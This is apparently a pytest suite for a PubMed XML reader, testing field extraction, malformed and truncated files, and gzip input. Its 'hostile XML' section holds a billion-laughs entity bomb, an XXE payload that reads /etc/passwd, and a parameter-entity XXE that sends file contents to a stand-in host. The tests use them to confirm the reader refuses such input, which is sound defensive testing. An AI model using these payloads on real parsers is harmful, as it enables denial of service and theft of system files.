"""PubMed XML reader: fields, bad records, malformed files, gzip, hostile XML (billion laughs, XXE)."""
from __future__ import annotations

import gzip
import time
import tracemalloc
from pathlib import Path

import pytest

from serendip.errors import ParseError, UnsafeXMLError
from serendip.literature.readers import get_reader
from serendip.literature.readers.pubmed_xml import PubmedXMLReader, check_prolog
from serendip.literature.record import MeshHeading, MeshQualifier, ParseIssue, Record

PROLOG = ('<?xml version="1.0" encoding="UTF-8"?>\n'
          '<!DOCTYPE PubmedArticleSet PUBLIC "-//NLM//DTD PubMedArticle, 1st January 2025//EN" '
          '"https://dtd.nlm.nih.gov/ncbi/pubmed/out/pubmed_250101.dtd">\n')

FULL = """<PubmedArticle>
  <MedlineCitation Status="MEDLINE" Owner="NLM">
    <PMID Version="1">123456</PMID>
    <Article PubModel="Print">
      <Journal>
        <JournalIssue CitedMedium="Print"><Volume>7</Volume><Issue>2</Issue>
          <PubDate><Year>2011</Year><Month>Sep</Month></PubDate></JournalIssue>
        <Title>Invented Journal of Tests</Title>
      </Journal>
      <ArticleTitle>Effect of <i>X</i> on Y.</ArticleTitle>
      <Pagination><MedlinePgn>1-9</MedlinePgn></Pagination>
      <ELocationID EIdType="pii">S0000</ELocationID>
      <ELocationID EIdType="doi">https://doi.org/10.5555/ABC.1</ELocationID>
      <Abstract>
        <AbstractText Label="AIM" NlmCategory="OBJECTIVE">To  test
          parsing.</AbstractText>
        <AbstractText>Second part.</AbstractText>
        <CopyrightInformation>(c) Invented.</CopyrightInformation>
      </Abstract>
      <AuthorList>
        <Author><LastName>Doe</LastName><Initials>JQ</Initials>
          <Identifier Source="ORCID">http://orcid.org/0000-0002-1825-0097</Identifier></Author>
        <Author ValidYN="N"><LastName>Wrong</LastName><ForeName>Name</ForeName></Author>
        <Author><CollectiveName>Invented Study Group</CollectiveName></Author>
      </AuthorList>
      <Language>eng</Language>
      <PublicationTypeList><PublicationType>Journal Article</PublicationType></PublicationTypeList>
    </Article>
    <MeshHeadingList>
      <MeshHeading><DescriptorName MajorTopicYN="Y">Humans</DescriptorName></MeshHeading>
      <MeshHeading><DescriptorName MajorTopicYN="N">Sleep</DescriptorName>
        <QualifierName MajorTopicYN="Y">physiology</QualifierName></MeshHeading>
    </MeshHeadingList>
    <KeywordList><Keyword>parsing</Keyword><Keyword>tests</Keyword></KeywordList>
    <InvestigatorList><Investigator><LastName>NotAnAuthor</LastName></Investigator></InvestigatorList>
  </MedlineCitation>
  <PubmedData><ArticleIdList>
    <ArticleId IdType="pubmed">123456</ArticleId><ArticleId IdType="pmc">PMC42</ArticleId>
  </ArticleIdList></PubmedData>
</PubmedArticle>
"""


def _article(pmid: str, title: str = "A title.") -> str:
    return (f"<PubmedArticle><MedlineCitation><PMID>{pmid}</PMID><Article><ArticleTitle>{title}"
            "</ArticleTitle></Article></MedlineCitation></PubmedArticle>\n")


def _write(path: Path, body: str, prolog: str = PROLOG, gz: bool = False) -> Path:
    data = (prolog + "<PubmedArticleSet>\n" + body + "</PubmedArticleSet>\n").encode("utf-8")
    path.write_bytes(gzip.compress(data) if gz else data)
    return path


def _read(path: Path) -> tuple[list[Record], list[ParseIssue]]:
    out = list(PubmedXMLReader().read(path))
    return ([x for x in out if isinstance(x, Record)], [x for x in out if isinstance(x, ParseIssue)])


def test_all_fields(tmp_path):
    recs, issues = _read(_write(tmp_path / "a.xml", FULL))
    assert issues == [] and len(recs) == 1
    r = recs[0]
    assert (r.pmid, r.doi, r.pmcid) == ("123456", "10.5555/abc.1", "PMC42")
    assert r.title == "Effect of X on Y." and r.extra["title_html"] == "Effect of <i>X</i> on Y."
    assert [(s.label, s.category, s.text) for s in r.abstract_sections] == [
        ("AIM", "OBJECTIVE", "To test parsing."), (None, None, "Second part.")]
    assert "Invented." not in r.abstract and r.extra["abstract_copyright"] == "(c) Invented."
    assert [(a.family, a.given, a.initials, a.collective, a.orcid) for a in r.authors] == [
        ("Doe", None, "JQ", None, "0000-0002-1825-0097"),  # <Initials> only: not a given name
        (None, None, None, "Invented Study Group", None)]
    assert (r.journal, r.year, r.month) == ("Invented Journal of Tests", 2011, 9)
    assert (r.extra["volume"], r.extra["issue"], r.extra["pages"]) == ("7", "2", "1-9")
    assert r.mesh_terms == ["Humans", "Sleep"]
    assert r.mesh_headings == [MeshHeading("Humans", True, []),
                               MeshHeading("Sleep", False, [MeshQualifier("physiology", True)])]
    assert "mesh" not in r.extra
    assert r.keywords == ["parsing", "tests"]
    assert r.publication_types == ["Journal Article"] and r.language == ["eng"]
    assert (r.source_format, r.source_index, r.source_line) == ("pubmed", 0, 4)
    assert r.source_file == str(tmp_path / "a.xml")


def test_sniff_and_registry(tmp_path):
    reader = PubmedXMLReader()
    assert reader.sniff(tmp_path, b'<?xml version="1.0"?>\n<PubmedArticleSet>')
    assert reader.sniff(tmp_path, b"<MedlineCitationSet><MedlineCitation>")
    assert not reader.sniff(tmp_path, b"PMID- 1\nTI  - x\n")
    assert isinstance(get_reader("pubmed-xml"), PubmedXMLReader)
    path = _write(tmp_path / "x.xml", _article("1"))
    assert isinstance(get_reader("auto", path), PubmedXMLReader)


def test_record_without_pmid_is_reported_and_rest_kept(tmp_path):
    body = _article("11") + _article("") + _article("12a") + _article("13")
    recs, issues = _read(_write(tmp_path / "b.xml", body))
    assert [r.pmid for r in recs] == ["11", "13"]
    assert [r.source_index for r in recs] == [0, 3]
    assert [(i.line, i.record) for i in issues] == [(5, "2"), (6, "3")]
    assert all("PMID" in i.reason and i.file == str(tmp_path / "b.xml") for i in issues)


def test_not_available_title_uses_vernacular(tmp_path):
    body = ("<PubmedArticle><MedlineCitation><PMID>5</PMID><Article><ArticleTitle>[Not Available]."
            "</ArticleTitle><VernacularTitle>Un titre <i>fran\u00e7ais</i>.</VernacularTitle>"
            "</Article></MedlineCitation></PubmedArticle>")
    recs, _ = _read(_write(tmp_path / "v.xml", body))
    assert recs[0].title == "Un titre fran\u00e7ais." == recs[0].vernacular_title


def test_book_article(tmp_path):
    body = """<PubmedBookArticle><BookDocument><PMID>777</PMID>
      <ArticleIdList><ArticleId IdType="doi">10.5555/book.1</ArticleId></ArticleIdList>
      <Book><BookTitle>Invented Handbook</BookTitle><PubDate><Year>2019</Year></PubDate></Book>
      <ArticleTitle>Chapter one.</ArticleTitle><Language>eng</Language>
      <AuthorList><Author><LastName>Roe</LastName><ForeName>Ann</ForeName></Author></AuthorList>
      <Abstract><AbstractText>Book text.</AbstractText></Abstract>
    </BookDocument></PubmedBookArticle>"""
    recs, issues = _read(_write(tmp_path / "book.xml", _article("1") + body))
    assert issues == [] and [r.pmid for r in recs] == ["1", "777"]
    b = recs[1]
    assert (b.title, b.journal, b.year, b.doi, b.abstract) == (
        "Chapter one.", "Invented Handbook", 2019, "10.5555/book.1", "Book text.")
    assert b.authors[0].family == "Roe"


def test_gzip_detected_by_magic_not_name(tmp_path):
    path = _write(tmp_path / "looks_plain.xml", _article("21") + _article("22"), gz=True)
    recs, issues = _read(path)
    assert [r.pmid for r in recs] == ["21", "22"] and issues == []
    assert [r.source_line for r in recs] == [4, 5]


def test_malformed_midway_keeps_records_before(tmp_path):
    body = _article("31") + _article("32") + "<PubmedArticle><MedlineCitation><PMID>33</PMID>\n<oops>\n"
    recs, issues = _read(_write(tmp_path / "m.xml", body))
    assert [r.pmid for r in recs] == ["31", "32"]
    assert len(issues) == 1
    assert issues[0].line == 8 and "syntax error" in issues[0].reason
    assert issues[0].record == "3" and "record skipped" in issues[0].reason


def test_malformed_record_in_the_middle_keeps_records_after(tmp_path):
    body = (_article("41") + "<PubmedArticle><MedlineCitation><PMID>42</PMID>\n<Article><ArticleTitle>"
            "Broken <i>title</ArticleTitle></Article></MedlineCitation></PubmedArticle>\n"
            + _article("43") + _article("44"))
    path = _write(tmp_path / "mid.xml", body)
    recs, issues = _read(path)
    assert [r.pmid for r in recs] == ["41", "43", "44"]
    assert len(issues) == 1 and issues[0].file == str(path) and issues[0].record == "2"
    assert "syntax error" in issues[0].reason
    lines = path.read_text().splitlines()
    assert "Broken <i>title" in lines[issues[0].line - 1]  # the line named is the broken one
    assert [r.source_index for r in recs] == [0, 2, 3]
    assert all("<PMID>" + r.pmid in lines[r.source_line - 1] or "PubmedArticle" in lines[r.source_line - 1]
               for r in recs)


def test_truncated_gzip_keeps_records_before(tmp_path):
    body = "".join(_article(str(100 + i), "x" * 200) for i in range(400))
    full = gzip.compress((PROLOG + "<PubmedArticleSet>\n" + body + "</PubmedArticleSet>\n").encode())
    path = _write_raw(tmp_path / "cut.xml.gz", full[: len(full) * 2 // 3])
    recs, issues = _read(path)
    assert 0 < len(recs) < 400
    assert [r.pmid for r in recs] == [str(100 + i) for i in range(len(recs))]
    assert len(issues) == 1 and "reading stopped" in issues[0].reason
    assert issues[0].line is not None and issues[0].line >= recs[-1].source_line


def test_malformed_first_record_is_reported_with_its_line(tmp_path):
    path = tmp_path / "bad.xml"
    path.write_text(PROLOG + "<PubmedArticleSet>\n<PubmedArticle><PMID>1</PMID></Oops>\n")
    items = list(PubmedXMLReader().read(path))
    assert len(items) == 1 and isinstance(items[0], ParseIssue)
    assert items[0].line == 4 and items[0].file == str(path)


@pytest.mark.parametrize("content", ["", "PMID- 1\nTI  - not xml\n", "<?xml version='1.0'?>\n"])
def test_not_xml_raises(tmp_path, content):
    path = tmp_path / "n.xml"
    path.write_text(content)
    with pytest.raises(ParseError):
        list(PubmedXMLReader().read(path))


def test_wrong_root_raises(tmp_path):
    path = tmp_path / "w.xml"
    path.write_text("<html><body/></html>")
    with pytest.raises(ParseError, match="root element <html>"):
        list(PubmedXMLReader().read(path))


# --- hostile XML ---------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE PubmedArticleSet [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1</PMID><Article>
<ArticleTitle>&lol9;</ArticleTitle></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>
"""

XXE = """<?xml version="1.0"?>
<!DOCTYPE PubmedArticleSet [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1</PMID><Article>
<ArticleTitle>&xxe;</ArticleTitle></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>
"""

XXE_PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE PubmedArticleSet [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://203.0.113.1/?x=%file;'>">
  %eval; %exfil;
]>
<PubmedArticleSet/>
"""


def _passwd_marker() -> str | None:
    try:
        first = Path("/etc/passwd").read_text().splitlines()[0]
    except (OSError, IndexError):
        return None
    return first.split(":")[0] + ":x:" if ":x:" in first else first


def _assert_refused(path: Path) -> UnsafeXMLError:
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(UnsafeXMLError) as err:
            list(PubmedXMLReader().read(path))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 2.0
    assert peak < 5 * 2**20  # nothing was expanded
    assert str(path) in str(err.value) and err.value.file == str(path)
    marker = _passwd_marker()
    if marker:
        assert marker not in str(err.value)
    return err.value


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE, XXE_PARAMETER],
                         ids=["laughs", "xxe", "xxe-param"])
def test_entity_declarations_refused(tmp_path, doc):
    err = _assert_refused(_write_raw(tmp_path / "evil.xml", doc.encode()))
    assert "ENTITY" in str(err)


def test_billion_laughs_refused_gzip_and_utf16(tmp_path):
    _assert_refused(_write_raw(tmp_path / "evil.xml.gz", gzip.compress(BILLION_LAUGHS.encode())))
    utf16 = BILLION_LAUGHS.replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    _assert_refused(_write_raw(tmp_path / "evil16.xml", utf16.encode("utf-16")))


def test_entities_after_long_comment_refused(tmp_path):
    doc = "<?xml version='1.0'?>\n<!--" + "x" * 200_000 + "-->\n" + XXE.split("\n", 1)[1]
    _assert_refused(_write_raw(tmp_path / "evil.xml", doc.encode()))


def test_external_dtd_is_never_loaded(tmp_path):
    """A DOCTYPE naming a local DTD is accepted but the DTD is not read: its entity stays unknown
    (the record using it is reported) and its default attributes do not appear."""
    dtd = tmp_path / "local.dtd"
    dtd.write_text('<!ENTITY secret "TOPSECRET-123">\n'
                   '<!ATTLIST ArticleTitle Injected CDATA "yes">\n')
    prolog = f'<?xml version="1.0"?>\n<!DOCTYPE PubmedArticleSet SYSTEM "{dtd.as_uri()}">\n'
    body = _article("41", "A &secret; B") + _article("42", "Plain")
    recs, issues = _read(_write(tmp_path / "e.xml", body, prolog=prolog))
    assert [r.pmid for r in recs] == ["42"]
    assert len(issues) == 1 and issues[0].line == 4 and "&secret;" in issues[0].reason
    assert "TOPSECRET" not in repr(recs) + repr(issues)


def test_passwd_as_external_dtd_is_not_read(tmp_path):
    prolog = '<?xml version="1.0"?>\n<!DOCTYPE PubmedArticleSet SYSTEM "file:///etc/passwd">\n'
    recs, issues = _read(_write(tmp_path / "p.xml", _article("51"), prolog=prolog))
    assert [r.pmid for r in recs] == ["51"] and issues == []
    marker = _passwd_marker()
    if marker:
        assert marker not in repr(recs)


def test_standard_pubmed_doctype_accepted_offline(tmp_path):
    """The NLM DOCTYPE with an https DTD URL parses at once (the DTD is not fetched)."""
    path = _write(tmp_path / "ok.xml", _article("61"))
    assert check_prolog(path) == "PubmedArticleSet"
    started = time.perf_counter()
    recs, issues = _read(path)
    assert time.perf_counter() - started < 2.0
    assert [r.pmid for r in recs] == ["61"] and issues == []


def _write_raw(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


# --- real data -----------------------------------------------------------------------------------

@pytest.mark.data
def test_medline_sample_counts(mirror):
    path = mirror / "medline" / "pubmed_sample.xml.gz"
    recs, issues = _read(path)
    assert issues == []
    assert len(recs) == 604 and len({r.pmid for r in recs}) == 604
    assert sum(bool(r.authors) for r in recs) == 603
    assert sum(any(a.affiliations for a in r.authors) for r in recs) == 523
    assert sum(r.year is not None for r in recs) == 604
    assert min(r.year for r in recs) == 1949 and max(r.year for r in recs) == 2026
    assert sum(bool(r.mesh_terms) for r in recs) == 550
    # 541 records have an <Abstract>; in one (PMID 30688251) it is <Abstract><AbstractText/></Abstract>
    with_text = [r for r in recs if r.abstract]
    empty = [r.pmid for r in recs if r.extra.get("abstract_empty")]
    assert len(with_text) == 540 and empty == ["30688251"]
    assert [r.source_index for r in recs] == list(range(604))
    assert all(r.title for r in recs)


def test_record_lines_right_past_line_65535(tmp_path):
    """libxml2 keeps element lines in 16 bits: past line 65,535 ``sourceline`` is the line where the
    first text child ends. Records and a DeleteCitation there keep the line of their start tag."""
    article = ("<PubmedArticle>\n  <MedlineCitation>\n    <PMID>{}</PMID>\n    <Article>\n"
               "      <ArticleTitle>Title {}.</ArticleTitle>\n    </Article>\n  </MedlineCitation>\n"
               "</PubmedArticle>\n")
    body = ("\n" * 70_000 + article.format(1, 1) + "\n\n" + article.format(2, 2)
            + "<DeleteCitation>\n  <PMID Version=\"1\">9</PMID>\n</DeleteCitation>\n")
    path = _write(tmp_path / "big.xml", body)
    lines = path.read_text().splitlines()
    items = list(get_reader("pubmed").read(path))
    records = [i for i in items if isinstance(i, Record)]
    assert [r.pmid for r in records] == ["1", "2"]
    for rec in records:
        assert rec.source_line > 65_535 and lines[rec.source_line - 1] == "<PubmedArticle>"
    deletion = [i for i in items if type(i).__name__ == "CitationDeletion"]
    assert len(deletion) == 1 and lines[deletion[0].line - 1] == "<DeleteCitation>"


def test_the_reference_list_gives_the_cited_pmids(tmp_path):
    from lxml import etree

    from serendip.literature.readers._pubmed_fields import cited_pmids

    data = etree.fromstring(
        '<PubmedData><ArticleIdList><ArticleId IdType="pubmed">1</ArticleId></ArticleIdList>'
        '<ReferenceList><Title>References</Title>'
        '<Reference><Citation>A</Citation><ArticleIdList><ArticleId IdType="pubmed">27464733</ArticleId>'
        '<ArticleId IdType="doi">10.1/x</ArticleId></ArticleIdList></Reference>'
        '<Reference><Citation>B, no id</Citation></Reference>'
        '<ReferenceList><Reference><ArticleIdList><ArticleId IdType="pubmed"> 11099048 </ArticleId>'
        '</ArticleIdList></Reference></ReferenceList>'
        '<Reference><ArticleIdList><ArticleId IdType="pubmed">27464733</ArticleId></ArticleIdList></Reference>'
        '</ReferenceList></PubmedData>')
    assert cited_pmids(data) == ["27464733", "11099048"]  # nested list read, the repeat once, the record's own PMID not
    assert cited_pmids(None) == [] and cited_pmids(etree.fromstring("<PubmedData/>")) == []
